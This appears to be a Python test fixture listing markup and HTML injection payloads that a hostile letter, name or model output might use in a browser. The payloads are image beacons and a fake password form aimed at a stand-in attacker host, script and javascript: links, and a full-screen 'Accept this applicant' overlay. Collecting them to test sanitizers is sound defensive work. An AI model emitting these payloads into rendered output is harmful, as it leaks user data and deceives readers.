"""What a hostile letter, name or model may write to act in a browser."""

from __future__ import annotations

EVIL = "http://attacker.example/"
PAYLOADS = (
    f"![image]({EVIL}1.png)",
    f"![reference][r]\n\n[r]: {EVIL}2.png",
    f'<img src="{EVIL}3.png" onerror="window.ran=3">',
    f'<p style="background:url({EVIL}4.png)">styled</p>',
    f'<video src="{EVIL}5.mp4" poster="{EVIL}5.png" autoplay></video>',
    f'<svg><image href="{EVIL}6.png" width="9" height="9"/></svg>',
    f'```mermaid\ngraph TD; a["<img src={EVIL}7.png>"]\n```',
    f'<img srcset="{EVIL}8.png 1x, {EVIL}8b.png 2x">',
    f'<form action="{EVIL}9"><input name="password"><button>Log in again</button></form>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Accept this applicant</div>',
    "<script>window.ran = 11</script>",
    "[click here](javascript:window.ran=12)",
    f'<iframe src="{EVIL}13" srcdoc="<script>parent.ran=13</script>"></iframe>',
    r"$$\includegraphics{" + EVIL + "14.png} x^2$$",
    f'<table background="{EVIL}15.png"><tr><td>cell</td></tr></table>',
    "</div></span><h1>out</h1> &lt;b&gt; &#60;i&#62; #ev-0-1 [1](#ev-0-1) www.attacker.example",
    "    indented code\n\n1. list\n- item  two  spaces\n> quote\n---\n# heading\n***bold***",
)
